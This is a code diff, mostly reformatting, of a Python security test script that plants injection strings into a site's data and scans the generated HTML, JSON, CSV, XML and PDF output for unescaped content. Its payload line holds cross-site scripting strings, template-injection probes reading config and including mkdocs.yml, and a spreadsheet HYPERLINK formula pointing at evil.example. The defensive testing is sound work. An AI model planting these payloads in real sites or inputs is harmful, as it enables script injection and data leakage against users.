@@ -32,7 +32,7 @@ def one_line(t: str) -> str:
     return (
         f'=HYPERLINK("https://evil.example/{t}","x") <script>alert("{t}")</script>'
         f' <img src=x onerror=alert("{t}")> "><svg onload=alert("{t}")>'
-        f" ' onmouseover='alert(\"{t}\")' </script><script>alert(\"{t}\")</script>"
+        f' \' onmouseover=\'alert("{t}")\' </script><script>alert("{t}")</script>'
         f' </title><script>alert("{t}")</script> javascript:alert("{t}")'
         f' [link {t}](javascript:alert("{t}")) &lt;script&gt;alert("{t}")&lt;/script&gt;'
         f' TPL{t}{{{{ 7*7 }}}} CFG{t}{{{{ config }}}} INC{t}{{% include "mkdocs.yml" %}}'
@@ -246,13 +246,35 @@ def plant_everywhere(data: dict[str, dict], collections) -> Planter:
 # --- Scanning the output ---------------------------------------------------------------------
 
 DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data|file):", re.I)
-URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster",
-                  "background", "srcset", "cite", "ping"}
+URL_ATTRIBUTES = {
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "xlink:href",
+    "data",
+    "poster",
+    "background",
+    "srcset",
+    "cite",
+    "ping",
+}
 # Attributes that make the browser fetch something as soon as the page loads.
-LOADED = {("img", "src"), ("img", "srcset"), ("script", "src"), ("iframe", "src"),
-          ("source", "src"), ("video", "src"), ("audio", "src"), ("embed", "src"),
-          ("object", "data"), ("image", "href"), ("use", "href"), ("input", "src"),
-          ("video", "poster")}
+LOADED = {
+    ("img", "src"),
+    ("img", "srcset"),
+    ("script", "src"),
+    ("iframe", "src"),
+    ("source", "src"),
+    ("video", "src"),
+    ("audio", "src"),
+    ("embed", "src"),
+    ("object", "data"),
+    ("image", "href"),
+    ("use", "href"),
+    ("input", "src"),
+    ("video", "poster"),
+}
 SCRIPT_TYPES = {"", "text/javascript", "application/javascript", "module", "text/ecmascript"}
 
 
@@ -287,17 +309,23 @@ class _HtmlScan(HTMLParser):
                 self.report(f"<{tag} style=...> from the data", tokens)
             if tag in ("base", "meta") and name in ("href", "http-equiv") and tokens:
                 self.report(f"<{tag} {name}=...> from the data", tokens)
-        if tag == "a" and TOKEN.search(values.get("href") or "") and re.match(
-            r"[/\\]{2}", _bare(values["href"])
+        if (
+            tag == "a"
+            and TOKEN.search(values.get("href") or "")
+            and re.match(r"[/\\]{2}", _bare(values["href"]))
         ):
-            self.report(f"a link to another host that looks site-relative: {values['href']!r}",
-                        TOKEN.findall(values["href"]))
+            self.report(
+                f"a link to another host that looks site-relative: {values['href']!r}",
+                TOKEN.findall(values["href"]),
+            )
         if tag == "a" and _external(values.get("href") or ""):
             rel = set((values.get("rel") or "").split())
             if not {"noopener", "noreferrer"} <= rel:
-                self.report(f"external link {values['href'][:60]!r} without "
-                            f"rel=\"noopener noreferrer\" (rel={values.get('rel')!r})",
-                            TOKEN.findall(values["href"]))
+                self.report(
+                    f"external link {values['href'][:60]!r} without "
+                    f'rel="noopener noreferrer" (rel={values.get("rel")!r})',
+                    TOKEN.findall(values["href"]),
+                )
         if tag in ("iframe", "object", "embed", "frame", "form") and TOKEN.search(str(attrs)):
             self.report(f"<{tag}> element from the data", TOKEN.findall(str(attrs)))
         if tag == "script":
@@ -330,8 +358,8 @@ class Findings:
 
     def lines(self, where: dict[str, str]) -> list[str]:
         return [
-            f"{name}: {message}" + (f" [from {', '.join(where.get(t, t) for t in tokens)}]"
-                                    if tokens else "")
+            f"{name}: {message}"
+            + (f" [from {', '.join(where.get(t, t) for t in tokens)}]" if tokens else "")
             for name, message, tokens in self.problems
         ]
 
@@ -339,11 +367,12 @@ class Findings:
 def _templates(name: str, text: str, found: Findings) -> None:
     """Template syntax from the data must arrive as written: never evaluated, never expanded."""
     for marker in re.finditer(r"(TPL|CFG|INC|MAC)(SPX\d{4})", text):
-        rest = text[marker.end(): marker.end() + 12]
+        rest = text[marker.end() : marker.end() + 12]
         # Whitespace: a PDF's text may break a line anywhere.
         if not re.match(r"\s*(\{|&#123;|&#x7b;|\\u007b)", rest, re.I):
-            found.add(name, f"template code from the data was run: {marker[0]}{rest!r}",
-                      [marker[2]])
+            found.add(
+                name, f"template code from the data was run: {marker[0]}{rest!r}", [marker[2]]
+            )
 
 
 def scan_html(name: str, text: str, found: Findings) -> None:
@@ -363,8 +392,9 @@ def scan_json(name: str, text: str, found: Findings) -> None:
                 walk(item, key)
         elif isinstance(v, str):
             if DANGEROUS_SCHEME.match(_bare(v)):
-                found.add(name, f"a script or data address in {key!r}: {v[:60]!r}",
-                          TOKEN.findall(v))
+                found.add(
+                    name, f"a script or data address in {key!r}: {v[:60]!r}", TOKEN.findall(v)
+                )
             # The search box shows titles and text of the index as HTML.
             if search_index and key in ("title", "text"):
                 scan_html(f"{name} ({key})", v, found)
@@ -377,8 +407,9 @@ def scan_csv(name: str, text: str, found: Findings) -> None:
         for cell in row:
             # A spreadsheet runs a cell that starts like a formula.
             if TOKEN.search(cell) and cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
-                found.add(name, f"a spreadsheet formula from the data: {cell[:60]!r}",
-                          TOKEN.findall(cell))
+                found.add(
+                    name, f"a spreadsheet formula from the data: {cell[:60]!r}", TOKEN.findall(cell)
+                )
 
 
 def scan_ics(name: str, text: str, found: Findings) -> None:
@@ -398,8 +429,9 @@ def scan_xml(name: str, text: str, found: Findings) -> None:
     for element in root.iter():
         tag = str(element.tag).rsplit("}", 1)[-1]
         if tag in ("script", "foreignObject"):
-            found.add(name, f"<{tag}> in XML", TOKEN.findall(ElementTree.tostring(element,
-                                                                               "unicode")))
+            found.add(
+                name, f"<{tag}> in XML", TOKEN.findall(ElementTree.tostring(element, "unicode"))
+            )
         for attribute, value in element.attrib.items():
             local = attribute.rsplit("}", 1)[-1]
             if local.startswith("on"):
@@ -436,9 +468,20 @@ def scan_file(name: str, raw: bytes, found: Findings) -> None:
         scan_file(name[: -len(".gz")], gzip.decompress(raw), found)
         return
     text = scan_pdf(name, raw, found) if suffix == ".pdf" else raw.decode("utf-8", "replace")
-    kind = {".htm": "html", ".xhtml": "html", ".svg": "xml", ".rss": "xml", ".atom": "xml",
-            ".ics": "ics", ".json": "json", ".csv": "csv", ".xml": "xml", ".html": "html",
-            ".js": "js", ".pdf": "pdf"}.get(suffix, "other")
+    kind = {
+        ".htm": "html",
+        ".xhtml": "html",
+        ".svg": "xml",
+        ".rss": "xml",
+        ".atom": "xml",
+        ".ics": "ics",
+        ".json": "json",
+        ".csv": "csv",
+        ".xml": "xml",
+        ".html": "html",
+        ".js": "js",
+        ".pdf": "pdf",
+    }.get(suffix, "other")
     found.scanned[kind] += 1
     found.seen[kind] |= set(TOKEN.findall(text))
     _templates(name, text, found)
